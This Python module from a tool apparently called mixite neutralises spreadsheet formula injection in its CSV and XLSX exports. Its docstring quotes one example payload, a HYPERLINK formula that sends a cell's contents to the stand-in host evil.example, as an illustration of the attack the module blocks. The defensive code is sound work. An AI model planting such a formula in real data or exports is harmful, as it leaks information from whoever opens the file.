"""Spreadsheet formula injection: text cells that a spreadsheet would run are written as text.

A commune, landlord, QPV or residence name comes from the user's files; a name such as
``=HYPERLINK("http://evil.example/?d="&A2,"Clic")`` would become a live formula when a CSV or XLSX
export is opened in Excel or LibreOffice. Following the OWASP guidance on CSV injection
(https://owasp.org/www-community/attacks/CSV_Injection), a text cell that starts with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return is neutralised:

* in a CSV, it is written with a leading apostrophe (``'=HYPERLINK(…)``), which spreadsheets show
  as text; the CSV writer quotes every field that holds the separator, a quote or a line break, so
  a value cannot open a new cell;
* in an XLSX workbook, it is stored as a string cell (never a formula) with the « quote prefix »
  style, so that it stays text even when someone edits the cell.

Only text is touched: numbers (negative ones included) stay numbers. Every CSV and XLSX export of
mixite goes through ``write_csv_excel`` and ``write_xlsx`` (``reports.common``), which call this
module; the per-attribution CSV of the allocation reports and ``mixite quotas --format csv`` too.
"""

from __future__ import annotations

from typing import Any

import pandas as pd

__all__ = [
    "FORMULA_PREFIXES",
    "csv_text",
    "is_formula_like",
    "neutralise_frame",
    "neutralise_text",
]

#: First characters that make a spreadsheet read a cell as a formula (OWASP, CSV injection).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value: object) -> bool:
    """True when ``value`` is text that a spreadsheet could take for a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)


def neutralise_text(value: Any) -> Any:
    """``value`` with a leading apostrophe when it is formula-like text; anything else unchanged."""
    return "'" + value if is_formula_like(value) else value


def _text_columns(frame: pd.DataFrame) -> list[Any]:
    return [
        col
        for col in frame.columns
        if not (
            pd.api.types.is_numeric_dtype(frame[col])
            or pd.api.types.is_datetime64_any_dtype(frame[col])
        )
    ]


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose formula-like text cells and headers carry a leading apostrophe.

    Numeric and date columns are left as they are (a negative number stays a number); in text
    columns only ``str`` values change.
    """
    out = frame.copy()
    for col in _text_columns(out):
        values = out[col].astype(object)
        if values.map(is_formula_like).any():
            out[col] = values.map(neutralise_text)
    if any(is_formula_like(c) for c in out.columns):
        out.columns = [neutralise_text(c) for c in out.columns]
    return out


def csv_text(frame: pd.DataFrame) -> str:
    """``frame`` as the CSV text of ``write_csv_excel`` (``;``, decimal comma), neutralised."""
    return str(neutralise_frame(frame).to_csv(sep=";", index=False, decimal=","))
